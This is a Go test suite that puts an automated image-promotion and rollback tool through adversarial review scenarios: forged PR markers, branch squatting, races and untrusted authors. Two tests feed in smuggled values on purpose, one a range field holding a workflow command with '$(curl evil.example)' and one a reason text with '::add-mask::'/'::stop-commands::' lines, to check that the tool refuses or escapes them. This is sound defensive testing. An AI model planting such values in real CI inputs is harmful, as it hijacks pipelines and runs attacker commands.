package forgetest

import (
	"context"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/labrats-work/flightline/pkg/forge"
	"github.com/labrats-work/flightline/pkg/imagepolicy"
	"github.com/labrats-work/flightline/pkg/marker"
	"github.com/labrats-work/flightline/pkg/promote"
	"github.com/labrats-work/flightline/pkg/rollback"
)

// RunTrust runs the scenarios of issue 16 (an adversarial review of promote and rollback) on
// the platform newPlatform makes: each ends safely — nothing foreign merged, closed or
// deleted; rollback restores the previous range or refuses saying why. Scenarios that need what
// only one forge has (a body edited after merge, a fork, a window of recent PRs) run where the
// platform offers it.
func RunTrust(t *testing.T, newPlatform NewPlatform) {
	merge := promote.MergeNow
	readme := func(s string) map[string][]byte { return map[string][]byte{"README.md": []byte(s)} }

	// 1. An open PR by anyone, carrying a revert marker of the live promotion, is not "the open
	// rollback": it is not merged; Flightline opens (and merges) its own.
	t.Run("Scenario01_ForeignOpenRevertIsNotMerged", func(t *testing.T) {
		e := NewEnv(t, newPlatform)
		pp := people(t, e.P)
		p15 := e.MustPromote(promote.Request{Version: "1.5.0", Merge: merge})
		m := marker.Revert{Policy: Policy, File: PlatformFile, Reverts: p15.PR.ID(), RestoredRange: "1.4.0", Trigger: "manual"}
		foreign := pp.OpenAs(t, pp.Stranger(), "flightline/revert/mallory", "Revert the promotion", m.String(),
			map[string][]byte{PlatformFile: e.Original, "README.md": []byte("owned\n")})

		r, err := e.Rollback(rollback.Request{Merge: merge})
		require.NoError(t, err)
		assert.Equal(t, rollback.Reverted, r.Operation, r.Message)
		assert.NotEqual(t, foreign.ID(), r.Revert.ID())
		assert.Equal(t, e.Original, e.File(e.P.Base()))
		assert.Equal(t, "platform\n", readFile(t, e, "README.md"), "nothing of the foreign PR reached the base")
		require.NotEmpty(t, r.Ignored)
		assert.Contains(t, r.Summary(), "Ignored: "+foreign.Ref())
		assert.Contains(t, e.P.Branches(t), "flightline/revert/mallory", "the foreign PR is left alone")
	})

	// 2a. A revert marker in any merged PR (edited in after the merge where the forge allows it)
	// does not make later rollbacks a no-op.
	t.Run("Scenario02a_RevertMarkerInAMergedPRIsNotARollback", func(t *testing.T) {
		e := NewEnv(t, newPlatform)
		pp := people(t, e.P)
		p15 := e.MustPromote(promote.Request{Version: "1.5.0", Merge: merge})
		m := marker.Revert{Policy: Policy, File: PlatformFile, Reverts: p15.PR.ID(), RestoredRange: "1.4.0", Trigger: "manual"}
		plantMerged(t, e, pp, "docs: typo", m.String(), readme("typo fixed\n"))

		r, err := e.Rollback(rollback.Request{Merge: merge})
		require.NoError(t, err)
		assert.Equal(t, rollback.Reverted, r.Operation, r.Message)
		assert.True(t, r.Verified)
		assert.Equal(t, "1.4.0", rangeOn(t, e))
	})

	// 2b. A promotion marker in another merged PR does not make it the promotion to revert.
	t.Run("Scenario02b_PromotionMarkerInAMergedPRIsNotTheTarget", func(t *testing.T) {
		e := NewEnv(t, newPlatform)
		pp := people(t, e.P)
		p15 := e.MustPromote(promote.Request{Version: "1.5.0", Merge: merge})
		m, err := marker.ParsePromotion(p15.PR.Body)
		require.NoError(t, err)
		plantMerged(t, e, pp, "docs: more", m.String(), readme("more docs\n"))

		r, err := e.Rollback(rollback.Request{Merge: merge})
		require.NoError(t, err)
		assert.Equal(t, p15.PR.ID(), r.Reverted.ID())
		assert.True(t, r.Verified)
		assert.Equal(t, "1.4.0", rangeOn(t, e))
		assert.Equal(t, "more docs\n", readFile(t, e, "README.md"), "the other PR is not reverted")
	})

	// 3. Outputs carry only validated values: a marker whose previousRange is shell and
	// workflow-command text is refused, and none of it reaches an output.
	t.Run("Scenario03_MarkerTextNeverReachesOutputs", func(t *testing.T) {
		e := NewEnv(t, newPlatform)
		evil := "1.4.0\n::set-output name=x::$(curl evil.example)"
		pr := craftPromotion(t, e, "1.5.0", func(m *marker.Promotion) { m.PreviousRange = evil })

		r, err := e.Rollback(rollback.Request{PR: pr.ID(), Merge: merge})
		require.ErrorIs(t, err, rollback.ErrUnverified)
		assert.Equal(t, rollback.Refused, r.Operation)
		for _, o := range r.Outputs() {
			assert.NotContains(t, o[1], "curl", o[0])
			assert.NotContains(t, o[1], "\n", o[0])
		}
		assert.Equal(t, "1.5.0", rangeOn(t, e), "nothing written")
	})

	// 4. A forward fix never writes what a marker says: a marker whose previousRange is not
	// what its merge replaced is refused, even with force.
	t.Run("Scenario04_ForwardFixWritesOnlyVerifiedValues", func(t *testing.T) {
		e := NewEnv(t, newPlatform)
		pr := craftPromotion(t, e, "1.5.0", func(m *marker.Promotion) { m.PreviousRange = ">=0.0.0" })
		e.P.Push(t, map[string][]byte{PlatformFile: e.WithRange("1.5.0 || 1.6.0")}, "hand edit of the range")

		r, err := e.Rollback(rollback.Request{PR: pr.ID(), Force: true, Merge: merge})
		require.ErrorIs(t, err, rollback.ErrUnverified)
		assert.Equal(t, rollback.Refused, r.Operation)
		assert.Empty(t, revertBranches(e))
		assert.Equal(t, "1.5.0 || 1.6.0", rangeOn(t, e))
	})

	// 5. Promote closes only its own older promotions: a stranger's PR that carries an older
	// promotion marker stays open, its branch in place.
	t.Run("Scenario05_PromoteLeavesStrangersPromotionsOpen", func(t *testing.T) {
		e := NewEnv(t, newPlatform)
		pp := people(t, e.P)
		m := marker.Promotion{Policy: Policy, File: PlatformFile, PreviousRange: "1.4.0", Range: "1.5.0", Tag: "1.5.0", Scan: "passed"}
		foreign := pp.OpenAs(t, pp.Stranger(), branch15, "promote "+Policy+" to 1.5.0", m.String(),
			map[string][]byte{PlatformFile: e.WithRange("1.5.0")})

		r := e.MustPromote(promote.Request{Version: "1.6.0"})
		assert.Empty(t, r.Superseded)
		require.Len(t, r.Ignored, 1)
		assert.Contains(t, r.Summary(), "Ignored: "+foreign.Ref())
		assert.Contains(t, e.P.Branches(t), branch15)
		still, err := e.P.Forge().Get(context.Background(), foreign.ID())
		require.NoError(t, err)
		assert.Equal(t, forge.StateOpen, still.State)

		if fk, ok := e.P.(Forks); ok { // a fork PR whose branch has the name of a platform branch
			own := pp.OpenAs(t, "flightline", "feature-x", "someone's work", "no marker", readme("work\n"))
			fp := fk.OpenFork(t, pp.Stranger(), "feature-x", "promote from a fork", strings.Replace(m.String(), `"1.5.0"`, `"1.5.0"`, 1),
				map[string][]byte{PlatformFile: e.WithRange("1.5.0")})
			r := e.MustPromote(promote.Request{Version: "1.6.0", ScanCheck: PassedScan()})
			assert.Empty(t, r.Superseded)
			assert.Contains(t, e.P.Branches(t), "feature-x", "the platform branch named like the fork's stays")
			pr, err := e.P.Forge().Get(context.Background(), fp.ID())
			require.NoError(t, err)
			assert.Equal(t, forge.StateOpen, pr.State)
			assert.Equal(t, own.HeadSHA, headOf(t, e, "feature-x"))
		}
	})

	// 6. A re-run of promote refuses a branch that holds someone else's commit, instead of
	// merging it.
	t.Run("Scenario06_RerunRefusesForeignCommitsOnItsBranch", func(t *testing.T) {
		e := NewEnv(t, newPlatform)
		pp := people(t, e.P)
		e.MustPromote(promote.Request{Version: "1.5.0"})
		pp.PushAs(t, pp.Stranger(), branch15, readme("owned\n"))

		r, err := e.Promote(promote.Request{Version: "1.5.0", Merge: merge})
		require.ErrorIs(t, err, promote.ErrUntrusted)
		assert.Contains(t, err.Error(), pp.Stranger())
		assert.NotEqual(t, promote.Merged, r.Operation)
		assert.Equal(t, e.Original, e.File(e.P.Base()))
		assert.Equal(t, "platform\n", readFile(t, e, "README.md"))
	})

	// 7. A promotion that lands while a rollback runs is not overwritten: the rollback re-reads
	// the policy at write time and refuses; a base that moved for another reason is fine.
	t.Run("Scenario07_RacingPromotionIsNotOverwritten", func(t *testing.T) {
		e := NewEnv(t, newPlatform)
		e.MustPromote(promote.Request{Version: "1.5.0", Merge: merge})
		h := &hookForge{Forge: e.P.Forge(), beforeWrite: func() { e.MustPromote(promote.Request{Version: "1.6.0", Merge: merge}) }}
		r, err := rollback.Run(context.Background(), h, Tags{}, rollback.Request{Policy: Policy, Merge: merge})
		require.ErrorIs(t, err, rollback.ErrSuperseded)
		assert.Equal(t, rollback.Refused, r.Operation)
		assert.Equal(t, "1.6.0", rangeOn(t, e), "the newer promotion stands")

		e2 := NewEnv(t, newPlatform)
		e2.MustPromote(promote.Request{Version: "1.5.0", Merge: merge})
		h2 := &hookForge{Forge: e2.P.Forge(), beforeWrite: func() { e2.P.Push(t, readme("image automation\n"), "flux: update images") }}
		r, err = rollback.Run(context.Background(), h2, Tags{}, rollback.Request{Policy: Policy, Merge: merge})
		require.NoError(t, err)
		assert.Equal(t, rollback.Reverted, r.Operation)
		assert.Equal(t, "1.4.0", rangeOn(t, e2))
	})

	// 8. After a person undoes a rollback (a revert of the revert), "already rolled back" is not
	// believed: the base pins the promotion again. Rollback says the live range is not a
	// promotion's, and reverting the promotion by pr works.
	t.Run("Scenario08_UndoneRollbackIsNotAlreadyRolledBack", func(t *testing.T) {
		e := NewEnv(t, newPlatform)
		p15 := e.MustPromote(promote.Request{Version: "1.5.0", Merge: merge})
		rv := e.MustRollback(rollback.Request{Merge: merge})
		f := e.P.Forge()
		undo, err := f.Revert(context.Background(), rv.Revert, forge.RevertRequest{Branch: "flightline/undo/rollback",
			Title: `Revert "` + rv.Revert.Title + `"`, Body: "Undo the rollback: the alert was a false positive."})
		require.NoError(t, err)
		_, err = f.Merge(context.Background(), undo, forge.MergeOptions{})
		require.NoError(t, err)
		require.Equal(t, "1.5.0", rangeOn(t, e))

		r, err := e.Rollback(rollback.Request{})
		require.ErrorIs(t, err, rollback.ErrNoPromotion)
		assert.NotEqual(t, rollback.Reused, r.Operation)
		assert.Contains(t, err.Error(), "give pr")

		r, err = e.Rollback(rollback.Request{PR: p15.PR.ID(), Merge: merge})
		require.NoError(t, err)
		assert.True(t, r.Verified)
		assert.Equal(t, "1.4.0", rangeOn(t, e))
	})

	// 9. The promotion is found from the base branch's history, not from a window of recently
	// updated PRs.
	t.Run("Scenario09_PromotionBeyondAWindowOfRecentPRs", func(t *testing.T) {
		e := NewEnv(t, newPlatform)
		c, ok := e.P.(Clutter)
		if !ok {
			t.Skip("the local git forge has no window of recent PRs: it reads the base branch")
		}
		p15 := e.MustPromote(promote.Request{Version: "1.5.0", Merge: merge})
		c.CloseMany(t, 300)
		r, err := e.Rollback(rollback.Request{Merge: merge})
		require.NoError(t, err)
		assert.Equal(t, p15.PR.ID(), r.Reverted.ID())
		assert.Equal(t, "1.4.0", rangeOn(t, e))
	})

	// 10/11 (rollback side). A reason or check text with a line break, a promotion marker and a
	// workflow command reaches the revert PR as one escaped line: the body holds no promotion
	// marker and no line that starts a command, and the next rollback does not revert the revert.
	t.Run("Scenario10_FreeTextIsOneEscapedLine", func(t *testing.T) {
		e := NewEnv(t, newPlatform)
		p15 := e.MustPromote(promote.Request{Version: "1.5.0", Merge: merge})
		m, err := marker.ParsePromotion(p15.PR.Body)
		require.NoError(t, err)
		evil := "query failed\n" + m.String() + "\n::add-mask::x\n::stop-commands::y\n" + strings.Repeat("z", 5000)
		r, err := e.Rollback(rollback.Request{Trigger: "canary", Reason: evil, Checks: []string{evil, "error-rate"}, Merge: merge})
		require.NoError(t, err)
		body := r.Revert.Body
		assert.False(t, marker.Has(body, marker.KindPromotion), "no promotion marker in the revert body")
		for line := range strings.Lines(body) {
			assert.False(t, strings.HasPrefix(strings.TrimSpace(line), "::"), "line %q", line)
		}
		rm, err := marker.ParseRevert(body)
		require.NoError(t, err)
		assert.NotContains(t, rm.Reason, "\n")
		assert.Less(t, len(rm.Reason), 400, "bounded")
		assert.Len(t, rm.Checks, 2)
		for _, line := range strings.Split(r.Summary(), "\n") {
			assert.False(t, strings.HasPrefix(strings.TrimSpace(line), "::"), "summary line %q", line)
		}

		again, err := e.Rollback(rollback.Request{})
		require.NoError(t, err)
		assert.Equal(t, rollback.Reused, again.Operation, "already rolled back, never a revert of the revert")
		assert.Equal(t, "1.4.0", rangeOn(t, e))
	})

	// A mistyped policy says it is not in the file and lists the candidates, as promote does.
	t.Run("MistypedPolicy_ListsCandidates", func(t *testing.T) {
		e := NewEnv(t, newPlatform)
		e.MustPromote(promote.Request{Version: "1.5.0", Merge: merge})
		_, err := e.Rollback(rollback.Request{Policy: "ai-agents-platform/ai-agents-prdo"})
		require.ErrorIs(t, err, imagepolicy.ErrNotFound)
		assert.Contains(t, err.Error(), "is not in the file; it has: ai-agents-platform/ai-agents-prod")
	})

	// The revert's branch name is predictable: a stranger who took it first keeps it, and the
	// revert is proposed from a free name instead of failing or overwriting it.
	t.Run("SquattedRevertBranch_AnotherNameIsUsed", func(t *testing.T) {
		e := NewEnv(t, newPlatform)
		pp := people(t, e.P)
		p15 := e.MustPromote(promote.Request{Version: "1.5.0", Merge: merge})
		name := rollback.BranchName(Policy, p15.PR)
		squat := pp.OpenAs(t, pp.Stranger(), name, "squatting", "not a revert", readme("squatted\n"))

		r, err := e.Rollback(rollback.Request{Merge: merge})
		require.NoError(t, err)
		assert.Equal(t, rollback.Reverted, r.Operation, r.Message)
		assert.NotEqual(t, squat.ID(), r.Revert.ID())
		assert.Equal(t, e.Original, e.File(e.P.Base()), "the previous range is restored")
		assert.Equal(t, "platform\n", readFile(t, e, "README.md"), "nothing of the squatter's branch reached the base")
		assert.Contains(t, e.P.Branches(t), name, "the squatter's branch is left alone")
		if r.Revert.Branch != "" && strings.HasPrefix(r.Revert.Branch, name) { // GitHub's revert names its own branch
			assert.Equal(t, name+"-2", r.Revert.Branch)
			assert.Contains(t, r.Summary(), "branch "+name+" already exists and is not a revert this run may reuse: left alone")
		}
	})

	// A promotion opened by a stranger (from the platform repo, with the expected name, with a
	// correct diff) is not reverted in Flightline's name.
	t.Run("UntrustedAuthor_Refused", func(t *testing.T) {
		e := NewEnv(t, newPlatform)
		pp := people(t, e.P)
		m := marker.Promotion{Policy: Policy, File: PlatformFile, PreviousRange: "1.4.0", Range: "1.5.0", Tag: "1.5.0", Scan: "passed"}
		pr := pp.OpenAs(t, pp.Stranger(), branch15, "promote "+Policy+" to 1.5.0", m.String(), map[string][]byte{PlatformFile: e.WithRange("1.5.0")})
		_, err := e.P.Forge().Merge(context.Background(), pr, forge.MergeOptions{})
		require.NoError(t, err)
		r, err := e.Rollback(rollback.Request{})
		require.ErrorIs(t, err, rollback.ErrUnverified)
		assert.Contains(t, err.Error(), "not a trusted author")
		assert.Equal(t, rollback.Refused, r.Operation)
		r, err = e.Rollback(rollback.Request{TrustedAuthors: []string{pp.Stranger()}, DryRun: true})
		require.NoError(t, err, "trusted-authors lists whom to trust")
		assert.Equal(t, rollback.Reverted, r.Operation)
	})
}

// plantMerged merges a stranger's README change whose description carries text: written into
// the body after the merge where the forge allows editing a merged PR, else from the start.
func plantMerged(t *testing.T, e *Env, pp People, title, text string, files map[string][]byte) {
	t.Helper()
	ed, canEdit := e.P.(BodyEditor)
	body := text
	if canEdit {
		body = "A harmless change."
	}
	pr := pp.OpenAs(t, pp.Stranger(), "flightline/docs/"+strings.NewReplacer(" ", "-", ":", "").Replace(title), title, body, files)
	merged, err := e.P.Forge().Merge(context.Background(), pr, forge.MergeOptions{})
	require.NoError(t, err)
	if canEdit {
		ed.EditBody(t, merged, "A harmless change.\n\n"+text)
	}
}

// craftPromotion merges, through the forge under test itself (a trusted author, the expected
// branch), a promotion to version whose marker edit changes.
func craftPromotion(t *testing.T, e *Env, version string, edit func(*marker.Promotion)) forge.PR {
	t.Helper()
	ctx := context.Background()
	f := e.P.Forge()
	m := marker.Promotion{Policy: Policy, File: PlatformFile, PreviousRange: "1.4.0", Range: version, Tag: version,
		Digest: e.Digests[version], Image: e.Image, Scan: "passed"}
	edit(&m)
	sha, err := f.Head(ctx, e.P.Base())
	require.NoError(t, err)
	ref, _ := imagepolicy.ParseRef(Policy)
	pr, _, err := f.Propose(ctx, forge.Change{Base: e.P.Base(), BaseSHA: sha, Branch: promote.BranchName(ref, version),
		Title: "promote " + Policy + " to " + version, Body: "crafted\n\n" + m.String() + "\n",
		Files: map[string][]byte{PlatformFile: e.WithRange(version)}})
	require.NoError(t, err)
	merged, err := f.Merge(ctx, pr, forge.MergeOptions{})
	require.NoError(t, err)
	return merged
}

// rangeOn is the policy's range on the base branch.
func rangeOn(t testing.TB, e *Env) string {
	t.Helper()
	ref, _ := imagepolicy.ParseRef(Policy)
	p, err := imagepolicy.Find(e.File(e.P.Base()), ref)
	require.NoError(t, err)
	return p.Range
}

func readFile(t testing.TB, e *Env, path string) string {
	t.Helper()
	b, err := e.P.Forge().ReadFile(context.Background(), e.P.Base(), path)
	require.NoError(t, err)
	return string(b)
}

func headOf(t testing.TB, e *Env, branch string) string {
	t.Helper()
	sha, err := e.P.Forge().Head(context.Background(), branch)
	require.NoError(t, err)
	return sha
}

// hookForge runs beforeWrite once, just before the first write of a rollback (the revert or
// the forward fix): what happens on the platform while the rollback decides.
type hookForge struct {
	forge.Forge
	beforeWrite func()
}

func (h *hookForge) fire() {
	if f := h.beforeWrite; f != nil {
		h.beforeWrite = nil
		f()
	}
}

func (h *hookForge) Revert(ctx context.Context, pr forge.PR, r forge.RevertRequest) (forge.PR, error) {
	h.fire()
	return h.Forge.Revert(ctx, pr, r)
}

func (h *hookForge) Propose(ctx context.Context, c forge.Change) (forge.PR, forge.Result, error) {
	h.fire()
	return h.Forge.Propose(ctx, c)
}
